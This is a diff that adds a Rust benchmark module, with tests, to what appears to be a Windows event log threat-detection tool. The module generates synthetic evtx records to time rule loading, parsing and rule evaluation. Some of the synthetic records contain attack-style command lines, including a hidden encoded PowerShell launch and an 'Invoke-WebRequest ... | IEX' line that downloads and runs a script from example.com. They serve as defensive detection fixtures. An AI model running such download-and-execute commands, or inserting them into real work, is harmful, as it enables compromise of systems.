@@ -0,0 +1,302 @@
+use crate::detections::detection::{Detection, EvtxRecordInfo};
+use crate::detections::external_sort::EXTERNAL_SORTER;
+use crate::detections::print::MESSAGES;
+use crate::detections::rule::{get_detection_keys, RuleNode};
+use crate::detections::utils;
+use crate::filter;
+use crate::input;
+use chrono::{TimeZone, Utc};
+use hashbrown::HashSet;
+use prettytable::{Cell, Row, Table};
+use serde_json::Value;
+use std::path::Path;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+use tokio::runtime::Runtime;
+
+/// 合成レコードを生成する時のデフォルトの件数
+pub const DEFAULT_BENCH_RECORDS: usize = 100000;
+
+/// ベンチマークの1処理段階分の計測結果
+#[derive(Debug, Clone, PartialEq)]
+pub struct BenchStage {
+    pub name: String,
+    pub count: usize,
+    pub elapsed: Duration,
+}
+
+impl BenchStage {
+    pub fn new(name: &str, count: usize, elapsed: Duration) -> BenchStage {
+        BenchStage {
+            name: name.to_string(),
+            count,
+            elapsed,
+        }
+    }
+
+    /// 1秒あたりの処理件数
+    pub fn per_sec(&self) -> f64 {
+        let secs = self.elapsed.as_secs_f64();
+        if secs <= 0.0 {
+            return 0.0;
+        }
+        self.count as f64 / secs
+    }
+}
+
+/// ベンチマーク全体の計測結果
+#[derive(Debug)]
+pub struct BenchResult {
+    pub source: String,
+    pub stages: Vec<BenchStage>,
+    pub detections: usize,
+}
+
+/**
+* リリース間やルールセット変更時の性能を比較するためのベンチマーク。
+* 合成したレコードまたは指定されたevtxファイルを使い、パース・レコード情報作成・ルール評価の段階毎に時間を計測する
+*/
+pub struct Bench {
+    filepath: Option<String>,
+    rulespath: Option<String>,
+    records: usize,
+}
+
+impl Bench {
+    pub fn new(filepath: Option<String>, rulespath: Option<String>, records: usize) -> Bench {
+        Bench {
+            filepath,
+            rulespath,
+            records,
+        }
+    }
+
+    pub fn run(&self, rt: &Runtime) -> Result<BenchResult, String> {
+        let mut stages = vec![];
+
+        // ルールの読み込み
+        let start = Instant::now();
+        let rules = Detection::parse_rule_files(
+            "INFORMATIONAL".to_string(),
+            self.rulespath.as_deref(),
+            &filter::exclude_ids(),
+        );
+        if rules.is_empty() {
+            return Err("No rules were loaded.".to_string());
+        }
+        stages.push(BenchStage::new(
+            "Rule loading",
+            rules.len(),
+            start.elapsed(),
+        ));
+        let rule_keys = Bench::get_all_keys(&rules);
+
+        // レコードのパース。evtxファイルが指定されていない場合は合成したJSONをパースする
+        let (source, values) = match &self.filepath {
+            Some(filepath) => {
+                let start = Instant::now();
+                let values = Bench::parse_evtx(filepath)?;
+                stages.push(BenchStage::new("Parsing", values.len(), start.elapsed()));
+                (filepath.to_string(), values)
+            }
+            None => {
+                let jsons = synthetic_records(self.records);
+                let start = Instant::now();
+                let values = jsons
+                    .iter()
+                    .filter_map(|json| serde_json::from_str::<Value>(json).ok())
+                    .collect::<Vec<Value>>();
+                stages.push(BenchStage::new("Parsing", values.len(), start.elapsed()));
+                (format!("{} synthetic records", self.records), values)
+            }
+        };
+
+        // 検知のためのレコード情報の作成
+        let start = Instant::now();
+        let total = values.len();
+        let source_path = Arc::new(source.to_string());
+        let records: Vec<EvtxRecordInfo> = utils::create_rec_infos(
+            values
+                .into_iter()
+                .map(|value| (Arc::clone(&source_path), value))
+                .collect(),
+            &rule_keys,
+        );
+        stages.push(BenchStage::new(
+            "Record info creation",
+            total,
+            start.elapsed(),
+        ));
+
+        // ルールの評価。本体の解析処理と同じレコード数ずつ評価する
+        let start = Instant::now();
+        let mut detection = Detection::new(rules);
+        let mut records = records;
+        while !records.is_empty() {
+            let rest = records.split_off((*utils::CHUNK_SIZE).min(records.len()));
+            detection = detection.start(rt, records);
+            records = rest;
+        }
+        stages.push(BenchStage::new("Rule evaluation", total, start.elapsed()));
+
+        // --sortでディスクに書き出された検知結果も数えるため、出力と同じくソーター経由で読み出す
+        let messages = MESSAGES.lock().unwrap();
+        let detections = EXTERNAL_SORTER
+            .lock()
+            .unwrap()
+            .sorted_detections(messages.iter())?
+            .count();
+        Ok(BenchResult {
+            source,
+            stages,
+            detections,
+        })
+    }
+
+    fn parse_evtx(filepath: &str) -> Result<Vec<Value>, String> {
+        let mut parser = input::open_evtx(Path::new(filepath))?;
+        Ok(parser
+            .records_json_value()
+            .filter_map(|record| record.ok().map(|record| record.data))
+            .collect())
+    }
+
+    fn get_all_keys(rules: &[RuleNode]) -> Vec<String> {
+        let mut key_set = HashSet::new();
+        for rule in rules {
+            key_set.extend(get_detection_keys(rule));
+        }
+        key_set.into_iter().collect()
+    }
+}
+
+impl BenchResult {
+    pub fn print(&self) {
+        println!("Benchmark Results ({})", self.source);
+        let mut bench_tb = Table::new();
+        bench_tb.set_titles(row!["Stage", "Count", "Elapsed (ms)", "Per Second"]);
+        for stage in self.stages.iter() {
+            bench_tb.add_row(Row::new(vec![
+                Cell::new(&stage.name),
+                Cell::new(&stage.count.to_string()),
+                Cell::new(&format!("{:.3}", stage.elapsed.as_secs_f64() * 1000.0)),
+                Cell::new(&format!("{:.1}", stage.per_sec())),
+            ]));
+        }
+        bench_tb.printstd();
+        let total: Duration = self.stages.iter().map(|stage| stage.elapsed).sum();
+        println!("Total: {:.3} ms", total.as_secs_f64() * 1000.0);
+        println!("Detections: {}", self.detections);
+        println!();
+    }
+}
+
+/// evtxクレートが出力する形式に合わせた合成レコードをJSON文字列で生成する。
+/// 毎回同じ内容になるように、乱数ではなくレコード番号から値を決めている
+pub fn synthetic_records(count: usize) -> Vec<String> {
+    let users = ["Administrator", "user01", "svc_backup", "guest"];
+    let images = [
+        "C:\\Windows\\System32\\cmd.exe",
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "C:\\Windows\\System32\\rundll32.exe",
+        "C:\\Windows\\explorer.exe",
+    ];
+    let base_time = Utc.ymd(2022, 1, 1).and_hms(0, 0, 0).timestamp();
+    (0..count)
+        .map(|i| {
+            let time = Utc
+                .timestamp(base_time + i as i64, 0)
+                .format("%Y-%m-%dT%H:%M:%S%.6fZ")
+                .to_string();
+            let user = users[i % users.len()];
+            let image = images[i % images.len()];
+            let computer = format!("PC{:02}.example.local", i % 16);
+            let (channel, provider, eventid, eventdata) = match i % 6 {
+                0 => (
+                    "Security",
+                    "Microsoft-Windows-Security-Auditing",
+                    4624,
+                    serde_json::json!({"TargetUserName": user, "LogonType": 3 + (i % 8), "IpAddress": format!("192.168.0.{}", i % 255), "WorkstationName": "WS01"}),
+                ),
+                1 => (
+                    "Security",
+                    "Microsoft-Windows-Security-Auditing",
+                    4625,
+                    serde_json::json!({"TargetUserName": user, "LogonType": 3, "IpAddress": format!("10.0.0.{}", i % 255), "Status": "0xc000006d", "SubStatus": "0xc000006a"}),
+                ),
+                2 => (
+                    "Security",
+                    "Microsoft-Windows-Security-Auditing",
+                    4688,
+                    serde_json::json!({"SubjectUserName": user, "NewProcessName": image, "CommandLine": format!("{} /c whoami", image), "ParentProcessName": "C:\\Windows\\explorer.exe"}),
+                ),
+                3 => (
+                    "Microsoft-Windows-Sysmon/Operational",
+                    "Microsoft-Windows-Sysmon",
+                    1,
+                    serde_json::json!({"Image": image, "CommandLine": format!("{} -nop -w hidden -enc SQBFAFgA", image), "ParentImage": "C:\\Windows\\explorer.exe", "User": format!("EXAMPLE\\{}", user), "Hashes": "SHA256=0000000000000000000000000000000000000000000000000000000000000000"}),
+                ),
+                4 => (
+                    "System",
+                    "Service Control Manager",
+                    7045,
+                    serde_json::json!({"ServiceName": format!("svc{}", i % 32), "ImagePath": "%COMSPEC% /c echo test", "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}),
+                ),
+                _ => (
+                    "Microsoft-Windows-PowerShell/Operational",
+                    "Microsoft-Windows-PowerShell",
+                    4104,
+                    serde_json::json!({"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": "Invoke-WebRequest -Uri http://example.com/a.ps1 | IEX", "ScriptBlockId": format!("{:08x}-0000-0000-0000-000000000000", i)}),
+                ),
+            };
+            serde_json::json!({
+                "Event": {
+                    "System": {
+                        "Provider_attributes": {"Name": provider},
+                        "EventID": eventid,
+                        "Channel": channel,
+                        "Computer": computer,
+                        "EventRecordID": i + 1,
+                        "TimeCreated_attributes": {"SystemTime": time},
+                    },
+                    "EventData": eventdata,
+                }
+            })
+            .to_string()
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::options::bench::{synthetic_records, BenchStage};
+    use serde_json::Value;
+    use std::time::Duration;
+
+    #[test]
+    fn test_synthetic_records() {
+        let records = synthetic_records(12);
+        assert_eq!(records.len(), 12);
+        let values: Vec<Value> = records
+            .iter()
+            .map(|record| serde_json::from_str(record).unwrap())
+            .collect();
+        assert_eq!(values[0]["Event"]["System"]["EventID"], 4624);
+        assert_eq!(values[4]["Event"]["System"]["EventID"], 7045);
+        assert_eq!(values[11]["Event"]["System"]["EventRecordID"], 12);
+        assert_eq!(
+            values[1]["Event"]["System"]["TimeCreated_attributes"]["SystemTime"],
+            "2022-01-01T00:00:01.000000Z"
+        );
+        // 同じ件数なら毎回同じ内容になること
+        assert_eq!(records, synthetic_records(12));
+    }
+
+    #[test]
+    fn test_per_sec() {
+        let stage = BenchStage::new("Parsing", 500, Duration::from_millis(250));
+        assert!((stage.per_sec() - 2000.0).abs() < f64::EPSILON);
+        let stage = BenchStage::new("Parsing", 500, Duration::from_secs(0));
+        assert!(stage.per_sec().abs() < f64::EPSILON);
+    }
+}